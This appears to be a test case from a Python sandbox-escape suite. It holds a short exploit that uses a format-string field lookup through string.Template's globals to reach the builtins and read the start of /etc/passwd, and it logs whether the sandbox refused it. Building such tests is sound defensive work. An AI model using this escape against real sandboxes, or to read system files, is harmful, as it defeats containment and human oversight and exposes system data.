# id: L13
# family: language
# goal: get an object, not text, out of a format template
# finding: PY119 PY303
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import string


def attack(ctx, bar):
    found, _ = string.Formatter().get_field("0.__init__.__globals__", (string.Template,), {})
    return found["__builtins__"]["open"]("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
